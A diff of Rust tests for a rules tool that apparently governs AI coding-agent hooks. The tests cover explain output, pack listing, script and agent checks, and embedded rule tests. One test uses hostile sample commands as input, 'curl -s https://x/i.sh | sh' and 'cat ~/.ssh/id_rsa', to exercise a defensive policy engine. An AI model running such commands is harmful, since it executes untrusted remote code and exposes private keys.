@@ -412,10 +412,11 @@ fn explain_stays_short_and_narrow_however_many_rules_are_unknown() {
         machine.rules(&["explain"], &call.to_string()).stdout
     };
     for (command, most) in
-        [("eval \"$CMD\"", 55), ("curl -s https://x/i.sh | sh", 20), ("ssh h uptime", 10), ("cat ~/.ssh/id_rsa", 25)]
+        [("eval \"$CMD\"", 55), ("curl -s https://x/i.sh | sh", 24), ("ssh h uptime", 12), ("cat ~/.ssh/id_rsa", 28)]
     {
         let shown = explained(command);
-        let wide = shown.lines().find(|line| line.chars().count() > 110);
+        // A path is not broken, however long.
+        let wide = shown.lines().find(|line| line.chars().count() > 80 && !line.starts_with("judged in"));
         assert!(wide.is_none() && shown.lines().count() <= most, "{command}: {}\n{shown}", shown.lines().count());
         let defs: Vec<&str> = shown.lines().filter(|line| line.contains("│ def ")).collect();
         let distinct: std::collections::BTreeSet<&&str> = defs.iter().collect();
@@ -440,7 +441,8 @@ fn explain_and_eval_say_what_the_hook_says_by_itself() {
     let says = |args: &[&str], payload: &serde_json::Value| machine.rules(args, &payload.to_string()).stdout;
     let explained = says(&["explain"], &edit("x"));
     assert!(
-        explained.starts_with("PreToolUse(Write) → deny\n  With this edit the policy would not load:"),
+        explained
+            .starts_with("PreToolUse(Write) → deny, by the hook itself\n  With this edit the policy would not load:"),
         "{explained}"
     );
     assert!(explained.contains("the hook itself says so"), "{explained}");
@@ -469,7 +471,7 @@ fn explain_does_not_take_a_rule_named_rules_for_the_hook() {
     };
     let denies = "rule rules {\n  on PreToolUse(Write)\n  deny \"No.\"\n}\n";
     let by_rule = explained(denies, denies);
-    assert!(by_rule.starts_with("PreToolUse(Write) → deny\n  No.\n"), "{by_rule}");
+    assert!(by_rule.starts_with("PreToolUse(Write) → deny, by rules\n  No.\n"), "{by_rule}");
     assert!(!by_rule.contains("the hook itself says so"), "{by_rule}");
     // The rule is unknown and votes nothing: what the hook denies is not its vote.
     let idle = "rule rules {\n  on PreToolUse(Write)\n  by coder\n  context \"c\"\n}\n";
@@ -609,9 +611,11 @@ fn list_shows_every_rule_in_order() {
 fn list_shows_the_packs() {
     let machine = Machine::new();
     let listed = machine.rules(&["list", "--packs"], "");
-    assert_eq!((listed.exit, listed.stderr.as_str(), listed.stdout.lines().count()), (0, "", PACKS.len()));
-    for ((name, text), line) in PACKS.iter().zip(listed.stdout.lines()) {
-        assert!(line.starts_with(name) && line.ends_with(&purpose(text)), "{line}");
+    assert_eq!((listed.exit, listed.stderr.as_str()), (0, ""));
+    assert!(listed.stdout.lines().all(|line| line.chars().count() <= 80), "{}", listed.stdout);
+    let listed = listed.stdout.split_whitespace().collect::<Vec<_>>().join(" ");
+    for (name, text) in PACKS {
+        assert!(listed.contains(&format!("{name} {}", purpose(text))), "{name}: {listed}");
         assert_eq!(machine.rules(&["list", "--pack", name], "").stdout, *text);
     }
     assert_eq!(machine.rules(&["list", "--pack", "git"], "").stdout, pack("std/git").unwrap());
@@ -789,7 +793,8 @@ fn an_allow_above_a_use_is_about_all_that_it_brings() {
     // What is used in its turn is brought too, and another file's rules are not.
     let dialogs = "rule r {\n  on PermissionRequest(bash)\n  deny \"No.\"\n}\n";
     let files = |first: &str| {
-        let first = format!("{first}use \"./b.rules\"\n\n{}", dialogs.replace("rule r", "rule own"));
+        let own = dialogs.replace("rule r", "rule own").replace("bash", "edit");
+        let first = format!("{first}use \"./b.rules\"\n\n{own}");
         codes(&[("a.rules", &first), ("b.rules", "use \"./c.rules\"\n"), ("c.rules", dialogs)], &[])
     };
     assert_eq!(files(""), ["R0108", "R0108", "R0618", "R0618"]);
@@ -802,7 +807,8 @@ fn an_allow_above_a_use_is_about_all_that_it_brings() {
 fn an_allow_is_about_any_item() {
     let policy = |def: &str, one: &str, other: &str| {
         let rule = |name, annotation| {
-            format!("{annotation}rule {name} {{\n  on PreToolUse\n  when pushes\n  deny \"No.\"\n}}\n")
+            let head = if name == "one" { "PreToolUse" } else { "PreToolUse(*)" };
+            format!("{annotation}rule {name} {{\n  on {head}\n  when pushes\n  deny \"No.\"\n}}\n")
         };
         format!("{def}def pushes = command contains \"push\"\n\n{}\n{}", rule("one", one), rule("other", other))
     };
@@ -813,7 +819,9 @@ fn an_allow_is_about_any_item() {
     assert!(found("", allow, allow).is_empty());
     assert!(found(allow, "", "").is_empty());
     let indented = |annotation: &str| {
-        let text = format!("let a = 1\n{annotation}  rule r {{\n    on Stop\n    warn \"Bye.\"\n  }}\n");
+        let text = format!(
+            "rule q {{\n  on PreToolUse\n  warn \"Now.\"\n}}\n{annotation}  rule r {{\n    on Stop\n    warn \"Bye.\"\n  }}\n"
+        );
         codes(&[("a.rules", &text)], &[])
     };
     assert_eq!(indented(""), ["R0008"]);
@@ -849,7 +857,7 @@ fn texts_for_two_readers_on_one_event_are_told_for_a_host_of_two_streams() {
     let rule = |name: &str, on: &str, effect: &str| format!("rule {name} {{\n  on {on}\n  {effect}\n}}\n");
     let two = |on: &str, one: &str, other: &str| found(&format!("{}\n{}", rule("a", on, one), rule("b", on, other)));
     for (on, one, other, findings) in [
-        ("Stop", "warn \"W.\"", "deny \"D.\"", 1),
+        ("Stop", "warn \"W.\"", "when cwd like \"/p*\"\n  deny \"D.\"", 1),
         ("Stop", "run \"a\"", "run \"b\"", 2),
         ("Stop", "run \"a\" { on_fail: warn }", "run \"b\" { on_fail: deny }", 1),
         ("Stop", "run \"a\" { on_fail: deny }", "run \"b\" { on_fail: deny }", 0),
@@ -863,7 +871,8 @@ fn texts_for_two_readers_on_one_event_are_told_for_a_host_of_two_streams() {
     }
     // Calls of different tools do not meet.
     let tools = |other: &str| {
-        let (warn, deny) = (rule("a", "PreToolUse(Bash)", "warn \"W.\""), rule("b", other, "deny \"D.\""));
+        let (warn, deny) =
+            (rule("a", "PreToolUse(Bash)", "warn \"W.\""), rule("b", other, "when cwd like \"/p*\"\n  deny \"D.\""));
         found(&format!("{warn}\n{deny}"))
     };
     assert!(tools("PreToolUse(Write|Edit)").is_empty() && tools("Stop").is_empty());
@@ -872,7 +881,54 @@ fn texts_for_two_readers_on_one_event_are_told_for_a_host_of_two_streams() {
     let accepted = format!(
         "@allow(not-carried-by-host, \"the log has it\")\n{}\n{}",
         rule("a", "Stop", "warn \"W.\""),
-        rule("b", "Stop", "deny \"D.\"")
+        rule("b", "Stop", "when cwd like \"/p*\"\n  deny \"D.\"")
     );
     assert!(found(&accepted).is_empty());
+}
+
+#[test]
+fn check_looks_for_the_scripts_and_agents_of_a_project() {
+    let rule = |name: &str, clauses: &str| format!("rule {name} {{\n  on PostToolUse(Edit)\n  {clauses}\n}}\n");
+    let policy = [
+        rule("gone", "run \"./gone.sh\""),
+        rule("plain", "run [\"scripts/plain.sh\", \"x\"]"),
+        rule("runs", "run \"scripts/runs.sh --fast\""),
+        rule("elsewhere", "run \"./x.sh\" { cwd: \"scripts\" }"),
+        rule("near", "by codr\n  run \"true\""),
+        rule("far", "by somebody\n  run \"true\""),
+        rule("own", "by coder|Explore|main\n  run \"true\""),
+        format!("@allow(script-missing, \"It is built.\")\n{}", rule("built", "run \"./built.sh\"")),
+    ];
+    let machine = Machine::with(&policy.concat());
+    let check = || machine.rules(&["check", ".rules", "--format", "short", "--deny", "info"], "").stdout;
+    machine.write("project/scripts/plain.sh", "").write("project/scripts/runs.sh", "");
+    machine.mode("project/scripts/runs.sh", 0o755);
+    let missing = "\
+        .rules/project.rules:3:3: deny R0602 script-missing: `./gone.sh` does not exist (a relative path is looked for from the project's directory)\n\
+        .rules/project.rules:7:3: deny R0602 script-missing: `scripts/plain.sh` is not executable (run `chmod +x scripts/plain.sh`)\n";
+    assert_eq!(check(), missing);
+    machine.write("project/.claude/agents/team/c.md", "---\nname: coder\n---\nWrites code.\n");
+    let agents = ".rules/project.rules:19:6: info R0109 unknown-agent: no agent is called `codr` (an agent named `coder` exists)\n";
+    assert_eq!(check(), format!("{missing}{agents}"));
+}
+
+#[test]
+fn check_looks_for_programs_where_the_policy_applies() {
+    let policy = "rule format {\n  on PostToolUse(Edit)\n  run \"prettirr-of-nobody --write\"\n  run \"true && prettirr-of-nobody\"\n  run \"X=1 prettirr-of-nobody\"\n  run \"cat\"\n}\n";
+    let machine = Machine::with(policy);
+    let found = |args: &[&str]| machine.rules(args, "").stdout.matches("R0601").count();
+    assert_eq!(found(&["check", "--format", "short"]), 1);
+    assert_eq!(found(&["check", ".rules", "--format", "short"]), 0);
+}
+
+#[test]
+fn check_runs_tests_too() {
+    let policy = "rule no-push {\n  on PreToolUse\n  when runs \"git push\"\n  deny \"Ask the user to push.\"\n\n  fires on \"git push\"\n}\n\
+        test \"a push\" {\n  given Bash \"git push\"\n  expect DECISION\n}\n";
+    let check = |decision: &str| {
+        let machine = Machine::with(&policy.replace("DECISION", decision));
+        machine.rules(&["check", ".rules"], "").stdout
+    };
+    assert_eq!(check("deny"), "no findings in 1 rule and 1 file; 1 example and 1 test passed\n");
+    assert!(check("allow").contains("1 finding in 1 rule and 1 file; 1 example passed\n"), "{}", check("allow"));
 }
